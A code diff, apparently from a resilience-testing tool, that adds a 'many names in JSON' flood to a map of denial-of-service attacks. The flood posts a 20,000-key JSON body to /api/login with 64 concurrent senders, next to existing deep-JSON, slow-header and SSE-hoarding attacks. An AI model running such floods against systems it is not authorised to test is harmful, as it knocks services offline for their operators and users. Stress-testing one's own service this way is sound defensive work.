@@ -168,6 +168,11 @@ const deep = `{"email":${'['.repeat(120_000)}${']'.repeat(120_000)}}`;
 /** @type {Attack} */
 const deepJson = (target) => flood(target, 64, (send) => send('POST', '/api/login', { body: deep }));
 
+const names = JSON.stringify(Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`k${i}`, 1])));
+
+/** @type {Attack} */
+const manyNames = (target) => flood(target, 64, (send) => send('POST', '/api/login', { body: names }));
+
 /** @type {ReadonlyMap<string, Attack>} */
 export const attacks = new Map([
   ['slow heads', slowHeads],
@@ -180,4 +185,5 @@ export const attacks = new Map([
   ['expensive lists and exports', expensiveLists],
   ['SSE hoarding', streamHoarding],
   ['deep JSON', deepJson],
+  ['many names in JSON', manyNames],
 ]);
